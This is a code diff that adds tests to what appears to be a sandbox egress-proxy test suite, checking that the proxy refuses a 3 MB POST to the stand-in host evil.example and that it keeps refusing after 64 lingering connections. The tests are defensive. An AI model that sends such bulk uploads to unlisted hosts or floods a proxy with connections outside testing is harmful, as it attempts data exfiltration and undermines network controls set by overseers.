@@ -31,6 +31,21 @@ address = "\\0" + sys.argv[1] if family == socket.AF_UNIX else (sys.argv[1], int
 print(socket.socket(family).connect(address))
 ' """
 
+POST = """python3 -c '
+import sys, urllib.request as u
+print(len(u.urlopen(sys.argv[1], data=bytes(3000000)).read()))
+' """
+REFUSED = """python3 -c '
+import socket
+clients = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(64)]
+for client in clients: client.sendall(b"GET http://evil.example/ HTTP/1.1\\r\\n\\r\\n")
+for client in clients:
+    while client.recv(4096): pass
+again = socket.create_connection(("127.0.0.1", 3128), timeout=30)
+again.sendall(b"GET http://evil.example/ HTTP/1.1\\r\\n\\r\\n")
+print(again.recv(12))
+' """
+
 
 class World(NamedTuple):
     """A sandbox, and what this machine listens on."""
@@ -147,6 +162,21 @@ def test_what_is_listed_is_reached_and_all_else_is_not(name: str, abstract: str)
         assert egress["bytes_down"] > 200
 
     play(name, body, abstract, listed=["allowed.example", "*.below.example"])
+
+
+def test_a_command_that_is_still_sending_hears_why_it_was_refused(name: str) -> None:
+    async def body(world: World) -> None:
+        url = f"http://evil.example:{world.port}/"
+        assert "403" in (await world.sandbox.exec(POST + url, timeout=60)).output
+
+    play(name, body, listed=["allowed.example"])
+
+
+def test_connections_that_are_over_and_not_closed_keep_nobody_out(name: str) -> None:
+    async def body(world: World) -> None:
+        assert "403" in (await world.sandbox.exec(REFUSED, timeout=60)).output
+
+    play(name, body, listed=["allowed.example"])
 
 
 def test_the_budget_ends_what_goes_on_and_what_comes_after(name: str) -> None:
